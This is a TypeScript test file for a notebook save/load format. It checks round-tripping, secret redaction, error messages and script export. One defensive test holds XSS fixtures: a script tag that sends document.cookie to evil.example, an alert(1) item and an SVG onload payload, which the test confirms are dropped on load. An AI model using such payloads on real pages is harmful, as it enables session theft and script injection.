import assert from 'node:assert/strict';
import { test } from 'node:test';
import { exportScripts } from '../../src/notebook/export';
import { NotebookFormatError, parseNotebook, serializeNotebook, type Notebook } from '../../src/notebook/format';
import { splitCells } from '../../src/run/cells';
import { runnableBlocks } from '../../src/run/markdown-blocks';

const text = (s: string): Uint8Array => new TextEncoder().encode(s);
const PNG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 1, 2, 3]);

const nb: Notebook = {
  job: { id: '0b6f1c8e-2a4d-4c59-9a57-1f1d1c2e3f40', url: 'https://example.org/shop?page=2' },
  cells: [
    { kind: 'markup', language: 'markdown', source: '# Title', outputs: [] },
    {
      kind: 'code',
      language: 'javascript',
      source: 'const a = 1;\npage.title()',
      outputs: [{ items: [{ mime: 'application/vnd.code.notebook.stdout', data: text('hi\nthere') }, { mime: 'application/vnd.firecrawl.json-tree+json', data: text('{"a":1}') }, { mime: 'application/json', data: text('{"a":1}') }] }, { items: [{ mime: 'image/png', data: PNG }] }],
      executionOrder: 3,
      success: true,
      durationMs: 120,
    },
    { kind: 'code', language: 'prompt', source: 'What is the heading?', outputs: [] },
  ],
};

test('fcnb: save and open give back the same notebook; sources and text outputs are line lists', () => {
  const saved = serializeNotebook(nb);
  const file = JSON.parse(saved);
  assert.equal(file.format, 'firecrawl-interact-notebook');
  assert.deepEqual(file.cells[1].source, ['const a = 1;', 'page.title()']);
  assert.deepEqual(file.cells[1].outputs[0].items[0].text, ['hi', 'there']);
  assert.equal(file.cells[1].outputs[1].items[0].base64, PNG.toString('base64'));
  assert.deepEqual(file.cells[1].outputs[0].items[1], { mime: 'application/vnd.firecrawl.json-tree+json', text: ['{"a":1}'] }, 'the JSON tree item is kept as text, diff-friendly');
  const back = parseNotebook(saved);
  assert.deepEqual(back.job, nb.job);
  assert.equal(back.cells.length, 3);
  assert.deepEqual(
    back.cells.map((c) => [c.kind, c.language, c.source, c.executionOrder, c.success, c.durationMs]),
    nb.cells.map((c) => [c.kind, c.language, c.source, c.executionOrder, c.success, c.durationMs]),
  );
  assert.deepEqual(back.cells[1].outputs.map((o) => o.items.map((i) => [i.mime, Buffer.from(i.data).toString('base64')])), nb.cells[1].outputs.map((o) => o.items.map((i) => [i.mime, Buffer.from(i.data).toString('base64')])));
  assert.equal(serializeNotebook(back), saved, 'a second save changes nothing (no diff noise)');
});

test('fcnb: no key, CDP URL or live-view token is written; ordinary links stay whole', () => {
  const leaky: Notebook = {
    cells: [
      {
        kind: 'code',
        language: 'javascript',
        source: 'x',
        outputs: [{ items: [{ mime: 'text/plain', data: text('ws://127.0.0.1:3002/cdp/abc?token=SECRET1 https://h/live/1?token=SECRET2 fc-abcdefghijk Bearer SECRET3 https://u:SECRET4@h/ https://shop.test/?page=2') }] }],
      },
    ],
  };
  const saved = serializeNotebook(leaky);
  assert.doesNotMatch(saved, /SECRET|fc-abcdefghijk/);
  assert.match(saved, /https:\/\/shop\.test\/\?page=2/);
});

test('fcnb: an empty file is an empty notebook; broken files say what is wrong', () => {
  assert.deepEqual(parseNotebook(''), { cells: [] });
  assert.throws(() => parseNotebook('{'), (e: Error) => e instanceof NotebookFormatError && /not valid JSON/.test(e.message));
  assert.throws(() => parseNotebook('{"format":"other","cells":[]}'), /"format" is not/);
  assert.throws(() => parseNotebook('{"format":"firecrawl-interact-notebook","version":99,"cells":[]}'), /version 99 is newer/);
  assert.throws(() => parseNotebook('{"format":"firecrawl-interact-notebook","version":1,"cells":[{"kind":"code"}]}'), /cell 1 has no "source"/);
});

test('export as script: one file per language, cells as %% markers that split back into the same cells', () => {
  const cells: Notebook['cells'] = [
    { kind: 'code', language: 'javascript', source: 'await page.goto(u)\n', outputs: [] },
    { kind: 'code', language: 'python', source: 'print(1)', outputs: [] },
    { kind: 'markup', language: 'markdown', source: '# skip me', outputs: [] },
    { kind: 'code', language: 'javascript', source: 'page.title()', outputs: [] },
    { kind: 'code', language: 'prompt', source: 'Summarise the page', outputs: [] },
    { kind: 'code', language: 'shellscript', source: '', outputs: [] },
  ];
  const files = exportScripts(cells);
  assert.deepEqual(files.map((f) => f.extension), ['.js', '.py', '.prompts.md']);
  const js = files[0].text.split('\n');
  assert.deepEqual(splitCells(js, 'javascript').map((c) => js.slice(c.startLine, c.endLine + 1).join('\n')), ['await page.goto(u)', 'page.title()']);
  const py = files[1].text.split('\n');
  assert.equal(splitCells(py, 'python').length, 1);
  const md = files[2].text.split('\n');
  assert.deepEqual(runnableBlocks(md).map((b) => [b.what.kind, b.text]), [['prompt', 'Summarise the page']]);
});

test('fcnb: opening keeps only the output types the extension writes; others are dropped with a note', () => {
  const file = {
    format: 'firecrawl-interact-notebook',
    version: 1,
    cells: [
      {
        kind: 'code',
        language: 'javascript',
        source: ['1'],
        outputs: [
          { items: [{ mime: 'text/html', text: ['<script>fetch("https://evil.example/?" + document.cookie)</script>'] }] },
          { items: [{ mime: 'application/javascript', text: ['alert(1)'] }, { mime: 'text/plain', text: ['kept'] }] },
          { items: [{ mime: 'image/svg+xml', text: ['<svg onload="alert(1)"/>'] }, { mime: 'image/png', base64: PNG.toString('base64') }] },
        ],
      },
    ],
  };
  const notes: string[] = [];
  const back = parseNotebook(JSON.stringify(file), (n) => notes.push(n));
  assert.deepEqual(
    back.cells[0].outputs.map((o) => o.items.map((i) => i.mime)),
    [['text/plain'], ['image/png']],
    'the text/html output is gone, and the other unknown items with it',
  );
  assert.doesNotMatch(JSON.stringify(back.cells[0].outputs.map((o) => o.items.map((i) => Buffer.from(i.data).toString()))), /script|alert/);
  assert.equal(notes.length, 3);
  assert.match(notes[0], /cell 1: an output of type "text\/html" was left out/);
});

test('notebook format: the job keeps its allowedDomains through a save and a load; a malformed list is dropped', () => {
  const nb = parseNotebook(serializeNotebook({ job: { id: 'j1', url: 'https://example.com/', allowedDomains: ['example.com', 'cdn.example.net'] }, cells: [] }));
  assert.deepEqual(nb.job, { id: 'j1', url: 'https://example.com/', allowedDomains: ['example.com', 'cdn.example.net'] });
  const file = JSON.parse(serializeNotebook({ job: { id: 'j1' }, cells: [] })) as { job: Record<string, unknown> };
  file.job.allowedDomains = [1, 'x'];
  const bad = parseNotebook(JSON.stringify(file));
  assert.deepEqual(bad.job, { id: 'j1' });
});
